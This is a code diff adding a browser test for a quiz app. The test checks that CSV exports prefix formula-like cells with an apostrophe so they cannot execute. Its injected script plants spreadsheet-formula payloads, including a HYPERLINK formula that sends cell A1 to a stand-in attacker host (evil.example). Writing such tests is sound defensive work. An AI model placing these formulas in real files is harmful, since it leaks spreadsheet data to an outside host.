@@ -446,6 +446,52 @@ def test_quiz_renders_choices_scores_answers_and_downloads_csv(
     assert [row["correct"] for row in graded] == ["true"] * len(rows)
 
 
+# Document text the API hands over as it is: a document can make a question, answer or title start with "=".
+HOSTILE_QUIZ_JS = """
+const realFetch = window.fetch;
+window.fetch = async (path, init) => {
+  const response = await realFetch(path, init);
+  if (path !== "/quiz" || !response.ok) return response;
+  const data = await response.json();
+  for (const q of data.questions) {
+    q.question = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
+    q.title = "@SUM(A1:A9)";
+    q.options = q.options.map((option) => (option === q.answer ? "-1+2" : option));
+    q.answer = "-1+2";
+  }
+  return new Response(JSON.stringify(data), { status: response.status, headers: response.headers });
+};
+"""
+
+
+@artifacts_on_failure
+def test_quiz_csv_keeps_formulas_from_running_in_a_spreadsheet(
+    page: WebDriver, server: Server, downloads: Path
+) -> None:
+    page.execute_script(HOSTILE_QUIZ_JS)
+    by_id(page, "tab-quiz").click()
+    page.find_element(By.CSS_SELECTOR, "input[name=quiz-source][value=document]").click()
+    by_id(page, "quiz-document").send_keys(QUIZ_DOC)
+    count = by_id(page, "quiz-n")
+    count.clear()
+    count.send_keys("1", Keys.ENTER)
+    question = wait(page, lambda d: d.find_elements(By.CSS_SELECTOR, ".quiz-question"), "no quiz", QUIZ_TIMEOUT_S)[0]
+    assert question.find_element(By.TAG_NAME, "legend").text == '問1. =HYPERLINK("http://evil.example/?"&A1,"詳細")'
+
+    for old in downloads.glob("*.csv"):
+        old.unlink()
+    click(page, by_id(page, "quiz-csv"))
+    files = wait(page, lambda d: list(downloads.glob("quiz-*.csv")), "the CSV was not downloaded")
+    text = files[0].read_bytes().decode("utf-8-sig")
+    cells = next(csv.DictReader(io.StringIO(text)))
+    assert cells["question"] == '\'=HYPERLINK("http://evil.example/?"&A1,"詳細")'
+    assert (cells["title"], cells["answer"]) == ("'@SUM(A1:A9)", "'-1+2")
+    assert "'-1+2" in [cells[f"option_{i}"] for i in range(1, 5)]
+    row = read_table(text)[0]  # the apostrophes come off again on import
+    assert (row["question"], row["title"], row["answer"]) == ('=HYPERLINK("http://evil.example/?"&A1,"詳細")',
+                                                              "@SUM(A1:A9)", "-1+2")  # fmt: skip
+
+
 @artifacts_on_failure
 def test_a_wrong_api_key_shows_the_error_and_the_right_one_recovers(driver: WebDriver, server: Server) -> None:
     driver.set_window_size(*LAPTOP)
